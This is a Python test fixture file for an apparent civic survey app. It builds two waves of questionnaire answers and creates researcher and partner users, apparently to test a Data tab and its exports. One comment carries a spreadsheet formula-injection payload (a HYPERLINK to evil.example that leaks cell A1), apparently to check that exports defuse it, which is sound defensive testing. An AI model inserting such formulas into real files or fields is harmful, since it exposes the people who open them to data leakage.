"""An open questionnaire with answers in two waves, tasks run at once, files in a temporary
folder; users for each side of the Data tab."""

import pytest

from civiclab.collection.models import Campaign
from civiclab.collection.services import Submission, submit
from civiclab.experiments.models import Membership
from tests.collection.conftest import adult_answers, campaign, questionnaire  # noqa: F401
from tests.conftest import give_role, make_user

IMMEDIATE = {
    "default": {
        "BACKEND": "django_tasks.backends.immediate.ImmediateBackend",
        "QUEUES": ["default"],
    }
}
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'


@pytest.fixture(autouse=True)
def tasks_inline(settings):
    settings.TASKS = IMMEDIATE


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def send(wave, **changes):
    submit(wave, Submission(answers=adult_answers(**changes), version_number=1))


@pytest.fixture
def answered(campaign, questionnaire):  # noqa: F811
    """Before (16): trust 3 ×8, 4 ×6, 1 ×2 (a small cell); after (22): 3 ×7, 4 ×9, 1 ×6.
    One hostile comment, ages 30 to 67, two neighbourhoods."""
    after = Campaign.objects.create(questionnaire=questionnaire, label="Après", wave="after")
    plan = [(campaign, {"3": 8, "4": 6, "1": 2}), (after, {"3": 7, "4": 9, "1": 6})]
    number = 0
    for wave, counts in plan:
        for trust, count in counts.items():
            for _ in range(count):
                number += 1
                send(
                    wave,
                    confiance=trust,
                    age=30 + number,
                    quartier="centre" if number % 3 else "wazemmes",
                    commentaire=HOSTILE if number == 1 else f"Avis {number}",
                )
    return questionnaire


@pytest.fixture
def researcher_a(experiment_a):
    user = make_user("chercheuse")
    give_role(user, experiment_a, Membership.Role.RESEARCHER)
    return user


@pytest.fixture
def partner_a(experiment_a):
    user = make_user("elue")
    give_role(user, experiment_a, Membership.Role.PARTNER)
    return user
